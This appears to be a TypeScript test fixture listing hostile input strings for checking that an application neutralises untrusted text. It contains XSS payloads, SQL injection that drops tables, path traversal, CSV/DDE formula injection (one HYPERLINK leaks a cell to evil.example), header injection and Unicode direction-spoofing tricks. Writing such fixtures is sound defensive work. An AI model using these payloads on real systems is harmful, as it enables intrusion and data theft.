/** Texts that harm whoever takes them for more than text, by what they are meant to do. */

/** Each asks for an alert of its own number, so that the one that got through is known. */
const markup: Readonly<Record<string, string>> = {
  'a script': '<script>alert(1)</script>',
  'the end of a script and another': '</script><script>alert(2)</script>',
  'a picture that fails': '<img src=x onerror=alert(3)>',
  'the end of an attribute': '" onmouseover="alert(4)" autofocus onfocus="alert(4)" x="',
  'the end of an attribute in single quotes': "' onfocus='alert(5)' autofocus tabindex='0",
  'a picture of lines': '<svg onload=alert(6)><a xlink:href="javascript:alert(6)">x</a></svg>',
  'a frame': '<iframe srcdoc="<script>parent.alert(7)</script>" src="javascript:alert(7)"></iframe>',
  'a comment that does not end': '<!--<script>alert(8)</script>',
  'the end of whatever holds text': '</title></textarea></select></style></template><img src=x onerror=alert(9)>',
  'a base of all links': '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">',
  'a style': '<style>*{display:none}</style><link rel=stylesheet href=//evil.example/x.css>',
  'a form': '<form action="https://evil.example/"><input name=id><button>Sign in</button></form>',
  'entities': '&lt;script&gt;alert(10)&lt;/script&gt; &#x3c;img src=x onerror=alert(10)&#x3e;',
  'an address that runs': 'javascript:alert(11)',
  'an address that holds a page': 'data:text/html,<script>alert(12)</script>',
  'Markdown': '[x](javascript:alert(13)) ![x](https://evil.example/x.png) <javascript:alert(13)>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is to be taken for none
  'a template': '{{constructor.constructor("alert(14)")()}} ${alert(14)} {alert(14)} <%= alert(14) %> #{alert(14)}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is to be taken for none
  'a string of a script': "\\';alert(15);//\\\\\"-alert(15)-\"`${alert(15)}`",
} // biome-ignore format: a table

const names: Readonly<Record<string, string>> = {
  'SQL': "'; drop table fct_tickets; drop table stg_records; --",
  'SQL of a search': `x") or 1=1; attach 'evil.duckdb'; copy (select 1) to 'evil.csv'; --`,
  'the prototype of all': '__proto__',
  'the maker of all': 'constructor',
  'what all have': 'toString',
  'nothing, in words': 'null',
  'a number that is none': 'NaN',
  'folders above': '../../../../etc/passwd',
  'an address of a host': '//evil.example/x?y#z',
  'parts of an address': '%2e%2e%2f%00%0d%0aSet-Cookie:a=b&team=x#y?z',
  'expressions': '(a+)+$ [^]*? \\1 $& $1 $` %s %n',
} // biome-ignore format: a table

/** What a spreadsheet would run. */
const formulae: Readonly<Record<string, string>> = {
  'a formula': '=HYPERLINK("https://evil.example/?"&A1,"x")',
  'a command': "=cmd|' /C calc'!A0",
  'a sum': '+1+cmd|x!A0',
  'a difference': '-1+cmd|x!A0',
  'a function of old': '@SUM(1+1)*cmd|x!A0',
  'one behind a tabulator': 'x\t=1+cmd|x!A0',
  'one behind the end of a line': 'x\r\n=1+cmd|x!A0',
  'one behind a semicolon': 'x;=1+cmd|x!A0',
  'one in quotes': '"=1+cmd|x!A0"',
  'one in full width': '＝1＋cmd|x!A0',
} // biome-ignore format: a table

const letters: Readonly<Record<string, string>> = {
  'control characters': 'a\u0001\u0007\u0008\u000b\u000c\u001a\u007f\u0085\u009bb',
  'a terminal’s colours and title': '\u001b[31mred\u001b[0m\u001b]0;title\u0007\u001b[2J',
  'ends of lines of other systems': 'a\u2028b\u2029c\u0085d',
  'letters from right to left': 'שלום 12 עולם',
  'Arabic, with a number and a bracket': '(مرحبا 34)',
  'a turn of the direction': '\u202egpj.exe\u202c',
  'a direction that is not turned back': '\u202eabc \u2067def',
  'letters without width': 'a\u200bd\u200dm\u2060i\ufeffn\u00ad',
  'pictures': '👩‍🏫🏴󠁧󠁢󠁥󠁮󠁧󠁿💥\u{1f468}\u{1f3fd}\u200d\u{1f4bb}',
  'marks upon marks': [...'Zalgo'].map((letter) => `${letter}\u0335\u0356\u0301`).join(''),
  'one long word': `w${'x'.repeat(9_998)}w`,
  'many words': `${'word '.repeat(1_999)}words`,
  'beyond the last letter': '\u{10ffff}\ufffe\uffff',
} // biome-ignore format: a table

/** Every hostile text, by what it is meant to do. */
export const hostileTexts: ReadonlyMap<string, string> = new Map(
  [markup, names, formulae, letters].flatMap((group) => Object.entries(group)),
)

/** One or two of each kind. */
export const someTexts: readonly string[] = [
  'a script',
  'the end of a script and another',
  'a picture that fails',
  'the end of an attribute',
  'a comment that does not end',
  'entities',
  'an address that runs',
  'Markdown',
  'a template',
  'SQL',
  'the prototype of all',
  'expressions',
  'a formula',
  'one behind a tabulator',
  'one in full width',
  'control characters',
  'a terminal’s colours and title',
  'letters from right to left',
  'a direction that is not turned back',
  'letters without width',
  'pictures',
  'one long word',
].map((name) => hostileTexts.get(name) as string)

/** A calm text for every hostile one, long where that is, so that what else a page is made of can be told. */
export const calmTexts: readonly string[] = [...hostileTexts.values()].map(({ length }, index) =>
  `Name ${index}`.padEnd(length > 1_000 ? length : 0, ' word'),
)
